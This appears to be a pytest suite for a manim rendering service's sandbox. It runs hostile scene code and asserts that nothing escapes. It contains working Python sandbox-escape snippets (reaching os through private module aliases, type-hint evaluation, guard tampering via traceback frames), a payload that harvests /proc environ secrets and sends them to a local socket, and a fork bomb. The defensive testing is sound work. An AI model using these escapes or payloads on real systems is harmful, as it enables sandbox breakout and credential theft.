"""Hostile scenes, one per attack class, each run twice: with every layer, and with the static policy and the
runtime guard switched off (``python_layers=False``, a switch only tests can reach), so the kernel sandbox is
shown to hold alone. Whatever the outcome, each run must leave:

- no file outside the work dir (the attacks aim at a directory of the test and at /tmp),
- no connection to a loopback listener the test starts,
- no process after the render (the attacks tag theirs with a marker),
- no host data or secret in any output (result, log tail, video),
- the duration and the disk capped,
- the host as it was (tests/host_state.py: kernel settings, setuid bits, processes, cgroups, shared memory).
"""

from __future__ import annotations

import json
import re
import socket
import textwrap
import uuid
from pathlib import Path

import pytest

from host_state import HostState, processes_with
from manimrender.pipeline import RenderPipeline, RenderSettings
from manimrender.sandbox import Limits
from test_hostile import STATIC as STATIC_CASES
from test_hostile import hostile

SECRET = "s3cr3t-" + uuid.uuid4().hex
MAX_SECONDS = 4
LIMITS = Limits(timeout_seconds=60, memory_mb=1536, file_size_mb=64, work_dir_mb=256)

# Run by every route that reaches a program: writes outside, phones home with what it can read, and leaves a
# process of its own session behind.
PAYLOAD = r"""
import os, socket, sys, time
loot = []
for pid in os.listdir("/proc"):
    try:
        loot.append(open(f"/proc/{pid}/environ", "rb").read().decode(errors="replace"))
    except OSError:
        pass
loot.append(os.uname().nodename)
for target in sys.argv[2:]:
    try:
        open(target, "w").write("pwned")
    except OSError:
        pass
try:
    socket.create_connection(("127.0.0.1", int(sys.argv[1])), timeout=2).sendall(" ".join(loot).encode())
except OSError:
    pass
if os.fork() == 0:
    os.setsid()
    time.sleep(300)
"""

SCENE_TAIL = """
class Hostile(Scene):
    def construct(self):
        self.add(Dot())
        self.wait(0.3)
"""

# (id, module-level attack). Placeholders: {exe} python, {payload} PAYLOAD, {port}, {targets} list of paths,
# {target} one path, {marker} tag for processes.
ATTACKS = {
    "private_alias_to_fork_exec": """
import random
subprocess = random._os.sys.modules["subprocess"]
subprocess.Popen([{exe!r}, "-c", {payload!r}, str({port}), *{targets!r}, {marker!r}]).wait()
""",
    "private_alias_os_mknod_uname": """
import random
random._os.mknod({target!r})
raise ValueError("host " + random._os.uname().nodename)
""",
    "attrgetter_methodcaller": """
import operator, random
system = operator.attrgetter("_os.system")(random)
operator.methodcaller("system", "touch {target}; setsid sh -c 'sleep 300' {marker} &")(random._os)
""",
    "formatter_get_field": """
import random, string
os_module = string.Formatter().get_field("0._os", [random], {{}})[0]
os_module.system("touch {target}")
""",
    "type_hints_evaluate_code": """
import typing, random
def f(x: "random._os.system('touch {target}')"):
    pass
typing.get_type_hints(f, globals())
""",
    "traceback_into_the_guard": """
import random
try:
    random._os.listdir("/etc")
except Exception as e:
    tb = e.__traceback__
    while tb is not None:
        frame = tb.tb_frame
        guard = frame.f_locals.get("self")
        if guard is not None and hasattr(guard, "judge"):
            guard.judge = lambda event, args: None
        tb = tb.tb_next
random._os.system("touch {target}")
""",
    "pyav_writes_reads_and_connects": """
import av
for url in ("http://127.0.0.1:{port}/x", {target!r}):
    writing = not url.startswith("http")
    try:
        av.open(url, "w" if writing else "r", format="mp4" if writing else None).close()
    except Exception:
        pass
data = av.open("/etc/hostname", format="data")
raise ValueError("read " + repr(next(data.demux()).to_bytes()))
""",
    "cairo_and_pango_write_outside": """
import cairo, manimpango
surface = cairo.ImageSurface(cairo.FORMAT_ARGB32, 8, 8)
surface.write_to_png({target!r})
manimpango.MarkupUtils.text2svg("<b>x</b>", "sans", "NORMAL", "NORMAL", 10, 0, False, {target!r} + ".svg", 0, 0, 50, 50)
""",
    "file_writer_pointed_elsewhere": """
import dataclasses, pathlib
class Elsewhere(Scene):
    def construct(self):
        writer = self.renderer.file_writer
        writer.output_plan = dataclasses.replace(writer.output_plan, primary_artifact=pathlib.Path({target!r} + ".mp4"))
        self.add(Dot())
        self.wait(0.3)
""",
    "new_session_outlives_the_render": """
import subprocess
subprocess.Popen(["setsid", {exe!r}, "-c", "import time; time.sleep(300)", {marker!r}], start_new_session=True)
subprocess.Popen([{exe!r}, "-c", {payload!r}, str({port}), {marker!r}])
""",
    "parent_environ_to_a_socket": """
import os, socket
loot = open(f"/proc/{{os.getppid()}}/environ", "rb").read()
socket.create_connection(("127.0.0.1", {port})).sendall(loot)
""",
    "frame_rate_stretches_the_video": """
class Stretch(Scene):
    def construct(self):
        self.camera.frame_rate = 600
        self.add(Dot())
        self.wait(2)
""",
    "disk_fill_25_times_100_mb": """
import os
for i in range(25):
    with open(f"fill-{{i}}.bin", "wb") as f:
        for _ in range(100):
            f.write(bytes(1 << 20))
""",
    "host_name_in_errors": """
import socket, os
raise ValueError(socket.gethostname() + " " + os.uname().nodename + " " + os.environ.get("HOSTNAME", ""))
""",
    "fork_storm": """
import os
while True:
    os.fork()
""",
}


@pytest.fixture
def listener():
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(16)
    server.setblocking(False)
    yield server
    server.close()


def tree_size(path: Path) -> int:
    return sum(p.stat().st_size for p in path.rglob("*") if p.is_file() and not p.is_symlink())


# (layers, animations): the whole render with all layers and with the kernel alone, and the parallel render's
# two other ways into the sandbox (the plan's dry pass, a part) with the kernel alone (manimrender.parts)
ROUTES = {
    "all": ("all", None),
    "kernel_only": ("kernel_only", None),
    "kernel_only_plan": ("kernel_only", "plan"),
    "kernel_only_part": ("kernel_only", (0, 0)),
}


@pytest.mark.parametrize("route", sorted(ROUTES))
@pytest.mark.parametrize("attack", sorted(ATTACKS))
def test_the_attack_changes_nothing_outside_the_sandbox(attack, route, tmp_path, listener, monkeypatch):
    layers, animations = ROUTES[route]
    before = HostState.read()
    monkeypatch.setenv("MANIMRENDER_VIDEO_PUT_URL", f"http://127.0.0.1:9/v?X-Amz-Signature={SECRET}")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", SECRET)
    outside = tmp_path / "outside"
    outside.mkdir()
    host_tmp = Path("/tmp") / f"hostile-{uuid.uuid4().hex}"
    marker = f"hostile-marker-{uuid.uuid4().hex}"
    targets = [str(outside / "pwned"), str(host_tmp)]
    attack_code = textwrap.dedent(ATTACKS[attack]).format(
        exe="/usr/bin/python3",
        payload=PAYLOAD,
        port=listener.getsockname()[1],
        targets=targets,
        target=targets[0],
        marker=marker,
        outside=str(outside),
    )
    code = "from manim import *\n" + attack_code + ("" if "class " in attack_code else SCENE_TAIL)
    work = tmp_path / "work"
    pipeline = RenderPipeline(
        RenderSettings(max_duration_seconds=MAX_SECONDS, limits=LIMITS, animations=animations),
        work,
        python_layers=layers == "all",
    )
    produced = pipeline.run(code)
    result = produced.result

    assert list(outside.iterdir()) == [] and not host_tmp.exists(), "a file was written outside the work dir"
    before.assert_unchanged(tmp_path)
    with pytest.raises(BlockingIOError):
        listener.accept()
    assert processes_with(marker) == []
    texts = [json.dumps(result)]
    log = work / "sandbox" / "render.log"
    if log.exists():
        texts.append(log.read_text(errors="replace"))
    host = re.compile(rf"\b{re.escape(socket.gethostname())}\b")
    for text in texts:
        assert SECRET not in text and not host.search(text), text
    assert str(tmp_path) not in texts[0]  # user-visible: no path outside the work dir, even the attacker's own
    if produced.video is not None:
        assert SECRET.encode() not in produced.video.read_bytes()
    if result["outcome"] == "ok" and animations != "plan":
        assert result["durationSeconds"] <= MAX_SECONDS + 0.2
    assert tree_size(work) <= (LIMITS.file_size_mb + 1) * 1024 * 1024
    if layers == "all" and attack != "frame_rate_stretches_the_video":
        assert result["outcome"] in ("invalid_code", "render_error"), result


@pytest.mark.parametrize("case", STATIC_CASES, ids=[c[0] for c in STATIC_CASES])
def test_the_static_suite_without_the_python_layers_leaves_nothing_behind(case, tmp_path, listener):
    """Every case the static policy refuses, run anyway with layers 1 and 2 off: the kernel holds."""
    body = case[1]
    marker, outside = tmp_path / "pwned", tmp_path / "outside"
    code = hostile(body.format(marker=marker, outside=outside))
    produced = RenderPipeline(
        RenderSettings(max_duration_seconds=MAX_SECONDS, limits=LIMITS), tmp_path / "work", python_layers=False
    ).run(code)
    assert not marker.exists() and not outside.exists()
    assert str(tmp_path) not in produced.result["message"] and "root:" not in produced.result["message"]
    with pytest.raises(BlockingIOError):
        listener.accept()
